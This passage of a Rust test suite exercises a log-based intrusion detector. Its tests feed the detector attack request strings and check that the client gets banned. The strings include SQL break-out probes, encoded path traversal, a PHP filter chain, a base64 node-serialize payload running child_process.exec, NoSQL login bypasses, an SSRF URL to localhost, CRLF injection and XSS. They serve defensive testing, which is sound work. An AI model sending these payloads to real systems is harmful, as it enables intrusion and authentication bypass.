            "/app?state=eyJ0aGVtZSI6ImRhcmsiLCJydW50aW1lIjoibm9kZSJ9",
            // Dots that are not steps up: ranges, ellipses, hex values.
            "/compare/v1.2..v1.3/files",
            "/search?q=wait...%20what%3F%20..%20ok",
            "/api/colors?from=0x2e2e2e&to=0x2f2f2f",
            "/docs/search?q=iconv%20convert%20UTF-8%20to%20latin1",
        ];
        // String break-out probes, one fragment per request: three make a ban.
        let mut d = detector(Settings::default());
        let v = ["/p?pay=%22:%2265", "/p?pay=%27%5C2nq5", "/p?%22:60"]
            .iter()
            .enumerate()
            .filter_map(|(i, t)| {
                feed(
                    &mut d,
                    &line("203.0.113.30", t, 200, "Mozilla/5.0"),
                    1000 + i as i64,
                )
                .verdict
            })
            .next()
            .expect("three break-out probes ban");
        assert_eq!(v.category, "sqli");
        let mut d = detector(Settings::default());
        for (i, target) in benign.iter().enumerate() {
            let v = feed(
                &mut d,
                &line("198.51.100.7", target, 200, "Mozilla/5.0"),
                1000 + i as i64,
            );
            assert!(v.verdict.is_none(), "{target} banned: {:?}", v.verdict);
        }
    }

    #[test]
    fn attack_classes_judged_by_class_not_by_line() {
        // (requests of one client, which of them bans: 1 = its first)
        let cases: [(&[&str], usize); 11] = [
            // A PHP filter chain without its php://filter prefix.
            (&["/index.php?page=convert.iconv.UTF8.CSISO2022KR|convert.base64-encode"], 1),
            // Traversal whatever the dots and slashes are written as: overlong UTF-8,
            // IIS %u forms (fullwidth dots, division slash), hex text, doubled slashes
            // and `./` between the steps.
            (&["/x?f=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afsecret"], 1),
            (&["/x?f=%uff0e%uff0e%u2215%uff0e%uff0e%u2215secret"], 1),
            (&["/x?f=0x2e0x2e0x2f0x2e0x2e0x2fsecret"], 1),
            (&["/x?f=.//..//.//..//secret"], 1),
            // node-serialize's function marker, wrapped in base64.
            (&["/profile?state=eyJyY2UiOiJfJCRORF9GVU5DJCRfZnVuY3Rpb24oKXtyZXF1aXJlKCdjaGlsZF9wcm9jZXNzJykuZXhlYygnaWQnKX0oKSJ9"], 1),
            // NoSQL operators in place of a value: a login bypass, tried twice.
            (
                &[
                    "/login?user%5B%24ne%5D=x&pass%5B%24ne%5D=x",
                    "/login?user%5B%24regex%5D=a.*",
                ],
                2,
            ),
            // A URL whose real host, after the userinfo `@`, is internal.
            (
                &["/fetch?url=http://example.com:80%20%26%40127.0.0.1:22/"],
                1,
            ),
            // A value that is a line break and an SMTP session command.
            (&["/contact?subject=%0d%0aQUIT"], 1),
            // PHP functions named by their extension's prefix, called.
            (
                &["/get?ldap_get_entries%28%29", "/get?pg_query%20%28%29"],
                2,
            ),
            // Framework session cookies passed in the query string.
            (
                &[
                    "/login?koa.sess=eyJ1c2VySWQiOjF9",
                    "/auth?__secure-next-auth.session-token=t",
                ],
                2,
            ),
        ];
        for (k, (requests, bans_at)) in cases.iter().enumerate() {
            let mut d = detector(Settings::default());
            let ip = format!("203.0.113.{}", 50 + k);
            let at = requests.iter().enumerate().find_map(|(i, t)| {
                feed(&mut d, &line(&ip, t, 200, "Mozilla/5.0"), 1000 + i as i64)
                    .verdict
                    .map(|_| i + 1)
            });
            assert_eq!(at, Some(*bans_at), "{requests:?}");
        }
    }

    #[test]
    fn a_quick_burst_of_referer_less_404s_is_a_scanner() {
        let mut d = detector(Settings::default());
        // A page with broken images and styles: assets, even without a referer.
        for (i, p) in [
            "/a.png",
            "/b.css",
            "/c.js",
            "/d.woff2",
            "/e.JPG?v=2",
            "/f.ico",
        ]
        .iter()
        .enumerate()
        {
            assert!(
                feed(&mut d, &line("203.0.113.3", p, 404, "x"), 1000 + i as i64)
                    .verdict
                    .is_none()
            );
        }
        // Dead links followed from another page carry a referer: not counted.
        for i in 0..6 {
            let raw = format!("203.0.113.4 - - [21/Nov/2026:00:00:00 +0000] \"GET /old/{i} HTTP/1.1\" 404 10 \"https://example.org/\" \"x\"");
            assert!(feed(&mut d, raw.as_bytes(), 1000 + i).verdict.is_none());
        }
        // Four guesses, then a pause longer than the window, then four more: no ban.
        for i in 0..4 {
            assert!(feed(
                &mut d,
                &line("203.0.113.5", &format!("/g{i}/"), 404, "x"),
                1000 + i
            )
            .verdict
            .is_none());
        }
        for i in 0..4 {
            assert!(feed(
                &mut d,
                &line("203.0.113.5", &format!("/h{i}"), 404, "x"),
                1100 + i
            )
            .verdict
            .is_none());
        }
        // Five distinct guesses within a minute: banned as a burst.
        let mut v = None;
        for (i, p) in [
            "/install.php",
            "/INSTALL.pgsql",
            "/installer/",
            "/rst.php",
            "/RootCA.crt",
        ]
        .iter()
        .enumerate()
        {
            v = v.or(feed(
                &mut d,
                &line("203.0.113.6", p, 404, "x"),
                2000 + 3 * i as i64,
            )
            .verdict);
        }
        let v = v.expect("a burst of five probes bans");
        assert_eq!(
            (v.rule.as_str(), v.category.as_str()),
            (PROBING_BURST_RULE, PROBING_CATEGORY)
        );
        // A crawler that says what it is follows the dead links it found, quickly: not a
        // burst (the distinct-404 window still counts them); a bare "bot" name is not one.
        let crawler =
            "Mozilla/5.0 (compatible; MJ12bot/v1.4.4; http://www.majestic12.co.uk/bot.php?+)";
        for (i, ua) in [crawler, "Googlebot/2.1 (+http://www.google.com/bot.html)"]
            .iter()
            .enumerate()
        {
            let ip = format!("203.0.113.{}", 60 + i);
            for k in 0..8i64 {
                let raw = line(&ip, &format!("/dead/link{k}"), 404, ua);
                assert!(feed(&mut d, &raw, 3000 + k).verdict.is_none(), "{ua}");
            }
        }
        let mut v = None;
        for k in 0..8i64 {
            let raw = line(
                "203.0.113.62",
                &format!("/dead/link{k}"),
                404,
                "SomeBot/1.0",
            );
            v = v.or(feed(&mut d, &raw, 3000 + k).verdict);
        }
        assert_eq!(v.map(|v| v.rule), Some(PROBING_BURST_RULE.to_string()));
        // Switched off with 0.
        let mut off = detector(with_thresholds(|t| t.max_not_found_burst = 0));
        for i in 0..8 {
            assert!(feed(
                &mut off,
                &line("203.0.113.6", &format!("/p{i}"), 404, "x"),
                2000 + i
            )
            .verdict
            .is_none());
        }
    }

    #[test]
    fn not_found_probing_counts_distinct_paths() {
        let mut d = detector(with_thresholds(|t| t.max_not_found = 5));
        // The same missing path again and again is a broken link, not probing.
        for i in 0..20 {
            assert!(feed(
                &mut d,
                &line("203.0.113.2", "/favicon.ico", 404, "x"),
                1000 + i
            )
            .verdict
            .is_none());
        }
        let mut v = None;
        for i in 0..5 {
            v = v.or(feed(
                &mut d,
                &line("203.0.113.2", &format!("/p{i}"), 404, "x"),
                1100 + i,
            )
            .verdict);
        }
        assert_eq!(v.unwrap().rule, PROBING_RULE);
    }

    #[test]
    fn user_patterns_count_toward_max_pattern_matches_in_their_window() {
        let mut d = detector(Settings {
            thresholds: Thresholds {
                max_pattern_matches: 3,
                pattern_window: 60,
                ..Thresholds::default()
            },
            ..only_patterns(&[("evil", "EVIL", "custom", Severity::Medium)])
        });
        let raw = line("203.0.113.3", "/?q=EVIL", 200, "x");
        assert!(feed(&mut d, &raw, 0).verdict.is_none());
        assert!(feed(&mut d, &raw, 30).verdict.is_none());
        // The first hit has left the one-minute window.
        assert!(feed(&mut d, &raw, 70).verdict.is_none());
        let v = feed(&mut d, &raw, 71).verdict.unwrap();
        assert_eq!(v.rule, "evil");
        assert_eq!(v.category, "custom");
        assert_eq!(v.hits, 4);
        assert_eq!(v.evidence.len(), 3);
    }

    #[test]
    fn distinct_strong_rules_on_one_request_add_up_and_weak_ones_do_not_pile_up() {
        let settings = || {
            only_patterns(&[
                ("weak-a", "AAA", "custom", Severity::Medium),
                ("weak-b", "BBB", "custom", Severity::Medium),
                ("weak-c", "CCC", "custom", Severity::Medium),
                ("strong-x", "XXX", "custom", Severity::High),
                ("strong-y", "YYY", "custom", Severity::High),
            ])
        };
        let mut d = detector(settings());
        // Three weak fragments on one request are one point, not three.
        let weak = line("203.0.113.4", "/?q=AAA+BBB+CCC", 200, "x");
        assert_eq!(feed(&mut d, &weak, 0).hits.len(), 3);
        assert!(feed(&mut d, &weak, 1).verdict.is_none());
        // A single strong rule is two points: one request does not ban.
        let one = line("203.0.113.5", "/?q=XXX", 200, "x");
        assert!(feed(&mut d, &one, 0).verdict.is_none());
        // Two strong rules on one request are two pieces of evidence: four points.
        let two = line("203.0.113.6", "/?q=XXX+YYY", 200, "x");
        let v = feed(&mut d, &two, 0).verdict.unwrap();
        assert_eq!(v.hits, 1);
        // A strong rule beside weak ones: two points and one.
        let mixed = line("203.0.113.7", "/?q=XXX+AAA+BBB", 200, "x");
        assert!(feed(&mut d, &mixed, 0).verdict.is_some());
        // With a higher bar the weak ones still count once.
        let mut d = detector(Settings {
            thresholds: Thresholds {
                max_pattern_matches: 4,
                ..Thresholds::default()
            },
            ..settings()
        });
        assert!(feed(&mut d, &mixed, 0).verdict.is_none());
        assert!(feed(&mut d, &two, 0).verdict.is_some());
    }

    #[test]
    fn allowlisted_and_loopback_verdicts_are_marked() {
        let mut d = detector(Settings {
            allowlist: vec!["198.51.100.0/24".parse().unwrap()],
            ..with_thresholds(|t| t.max_requests_per_minute = 1)
        });
        let v = feed(&mut d, &line("198.51.100.9", "/", 200, "x"), 0);
        assert!(v.verdict.is_none());
        let v = feed(&mut d, &line("198.51.100.9", "/", 200, "x"), 0)
            .verdict
            .unwrap();
        assert_eq!(v.allowlisted.as_deref(), Some("allowlist 198.51.100.0/24"));
        feed(&mut d, &line("127.0.0.1", "/", 200, "x"), 0);
        let v = feed(&mut d, &line("127.0.0.1", "/", 200, "x"), 0)
            .verdict
            .unwrap();
        assert_eq!(v.allowlisted.as_deref(), Some("loopback"));
    }

    #[test]
    fn categories_limit_which_rules_apply() {
        let mut d = detector(only_patterns(&[
            ("a", "AAA", "sqli", Severity::Critical),
            ("b", "BBB", "xss", Severity::Critical),
        ]));
        let raw = line("203.0.113.4", "/?q=AAA", 200, "x");
        let req = parse::parse_access(&raw).unwrap();
        let only_xss = Scope {
            categories: Some(vec!["xss".to_string()]),
            profile: None,
        };
        assert!(d.observe_in(&req, &raw, 0, &only_xss).verdict.is_none());
        let raw = line("203.0.113.4", "/?q=BBB", 200, "x");
        let req = parse::parse_access(&raw).unwrap();
        assert_eq!(
            d.observe_in(&req, &raw, 1, &only_xss).verdict.unwrap().rule,
            "b"
        );
    }

    #[test]
    fn behind_a_trusted_proxy_the_forwarded_client_is_the_one_judged() {
        let mut d = detector(Settings {
            trusted_proxies: proxy::TrustedProxies {
                nets: vec!["172.18.0.0/16".parse().unwrap()],
                ..Default::default()
            },
            ..Settings::default()
        });
        let attack = |peer: &str, xff: &str| {
            format!("{peer} - - [21/Nov/2026:00:00:00 +0000] \"GET /?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\" 200 10 \"-\" \"x\" \"{xff}\"").into_bytes()
        };
        // Through the trusted proxy: the real client is banned.
        let raw = attack("172.18.0.5", "203.0.113.9");
        let v = feed(&mut d, &raw, 0).verdict.unwrap();
        assert_eq!(v.ip, "203.0.113.9".parse::<IpAddr>().unwrap());
        assert_eq!(v.via, Some("172.18.0.5".parse().unwrap()));
        // Straight from an untrusted client naming a victim: the client itself.
        let raw = attack("198.51.100.66", "203.0.113.77");
        let v = feed(&mut d, &raw, 1).verdict.unwrap();
        assert_eq!(v.ip, "198.51.100.66".parse::<IpAddr>().unwrap());
        assert_eq!(v.via, None);
    }

    /// An anomaly of `score` by `ip` at `now`, scoped to nothing.
    fn anomaly(d: &mut Detector, ip: &str, score: f64, now: i64) -> Option<Verdict> {
        d.anomaly(
            ip.parse().unwrap(),
            None,
            score,
            now,
            &UNSCOPED,
            b"GET /x?odd=1",
        )
    }

    #[test]
    fn an_unknown_endpoint_alone_never_bans() {
        let mut d = detector(Settings::default());
        for i in 0..1000 {
            assert_eq!(anomaly(&mut d, "203.0.113.70", 0.2, 1000 + i), None);
        }
        assert_eq!(anomaly_points(0.2), 0);
        assert_eq!(anomaly_points(0.49), 0);
        assert_eq!(anomaly_points(0.5), 1);
        assert_eq!(anomaly_points(0.8), 1);
    }

    #[test]
    fn three_anomalies_within_the_pattern_window_ban() {
        let mut d = detector(Settings::default());
        let window = Thresholds::default().pattern_window as i64;
        assert_eq!(Thresholds::default().max_pattern_matches, 3);
        assert_eq!(anomaly(&mut d, "203.0.113.71", 0.6, 1000), None);
        assert_eq!(anomaly(&mut d, "203.0.113.71", 0.8, 1001), None);
        let v = anomaly(&mut d, "203.0.113.71", 0.5, 1002).expect("a third anomaly bans");
        assert_eq!(
            (v.rule.as_str(), v.category.as_str(), v.severity),
            (ANOMALY_RULE, ANOMALY_CATEGORY, Severity::Medium)
        );
        assert_eq!(v.ip, "203.0.113.71".parse::<IpAddr>().unwrap());
        assert_eq!((v.hits, v.first_seen, v.last_seen), (3, 1000, 1002));
        assert_eq!(v.evidence.len(), 3);
        assert_eq!(v.allowlisted, None);
        // Spread wider than the window, three do not.
        for i in 0..3 {
            assert_eq!(
                anomaly(&mut d, "203.0.113.72", 0.8, 1000 + i * window),
                None
            );
        }
    }

    #[test]
    fn an_anomaly_and_a_high_rule_hit_ban_together_in_either_order() {
        let patterns = [("hi", "HIGHRULE", "custom", Severity::High)];
        // The rule hit first (2 points), then the anomaly decides.
        let mut d = detector(only_patterns(&patterns));
        let raw = line("203.0.113.73", "/?q=HIGHRULE", 200, "x");
        assert!(feed(&mut d, &raw, 1000).verdict.is_none());
        let v = anomaly(&mut d, "203.0.113.73", 0.6, 1001).expect("rule hit + anomaly bans");
        assert_eq!(v.rule, ANOMALY_RULE);
        assert_eq!(v.hits, 2);
        // The anomaly first, then the rule hit decides (as the rule).
        let mut d = detector(only_patterns(&patterns));
        assert_eq!(anomaly(&mut d, "203.0.113.74", 0.6, 1000), None);
        let raw = line("203.0.113.74", "/?q=HIGHRULE", 200, "x");
        let v = feed(&mut d, &raw, 1001)
            .verdict
            .expect("anomaly + rule hit bans");
        assert_eq!((v.rule.as_str(), v.category.as_str()), ("hi", "custom"));
        // A low-scored anomaly (an unknown endpoint) adds nothing to a rule hit.
        let mut d = detector(only_patterns(&patterns));
        let raw = line("203.0.113.75", "/?q=HIGHRULE", 200, "x");
        assert!(feed(&mut d, &raw, 1000).verdict.is_none());
        assert_eq!(anomaly(&mut d, "203.0.113.75", 0.2, 1001), None);
    }

    #[test]
    fn anomalies_respect_the_quiet_period_and_the_allowlist() {
        let mut d = detector(Settings {
            allowlist: vec!["198.51.100.0/24".parse().unwrap()],
            ..Settings::default()
        });
        let quiet = Settings::default().quiet_seconds as i64;
        for i in 0..2 {
            assert_eq!(anomaly(&mut d, "203.0.113.76", 0.8, 1000 + i), None);
        }
        assert!(anomaly(&mut d, "203.0.113.76", 0.8, 1002).is_some());
        assert!(d.is_quiet("203.0.113.76".parse().unwrap(), 1003));
        // Banned now: no second verdict while the detector is quiet about it.
        for i in 0..10 {
            assert_eq!(anomaly(&mut d, "203.0.113.76", 0.8, 1003 + i), None);
        }
        // After the quiet period, new evidence counts afresh.
        let later = 1002 + quiet + 1;
        assert!(!d.is_quiet("203.0.113.76".parse().unwrap(), later));
        assert_eq!(anomaly(&mut d, "203.0.113.76", 0.8, later), None);
        assert_eq!(anomaly(&mut d, "203.0.113.76", 0.8, later + 1), None);
        assert!(anomaly(&mut d, "203.0.113.76", 0.8, later + 2).is_some());
        // An allowlisted address gets a marked verdict, as a rule's would be.
        for i in 0..2 {
            assert_eq!(anomaly(&mut d, "198.51.100.9", 0.8, 1000 + i), None);
        }
        let v = anomaly(&mut d, "198.51.100.9", 0.8, 1002).expect("a marked verdict");
        assert_eq!(v.allowlisted.as_deref(), Some("allowlist 198.51.100.0/24"));
        let v = d
            .anomaly(
                "127.0.0.1".parse().unwrap(),
                Some("172.18.0.5".parse().unwrap()),
                0.8,
                1000,
                &UNSCOPED,
                b"x",
            )
            .or_else(|| anomaly(&mut d, "127.0.0.1", 0.8, 1001))
            .or_else(|| anomaly(&mut d, "127.0.0.1", 0.8, 1002))
            .expect("loopback: a marked verdict");
        assert_eq!(v.allowlisted.as_deref(), Some("loopback"));
    }

    #[test]
    fn tracked_ips_are_bounded() {
        let mut d = detector(Settings {
            max_tracked_ips: 1000,
            ..Settings::default()
        });
        for i in 0..50_000u32 {
            let ip = std::net::Ipv4Addr::from(0x0a00_0000 + i).to_string();
            feed(&mut d, &line(&ip, "/", 200, "x"), 1000);
        }
        assert!(d.tracked_ips() <= 1001, "{} tracked", d.tracked_ips());
        assert!(d.evicted_ips() >= 49_000);
    }
}
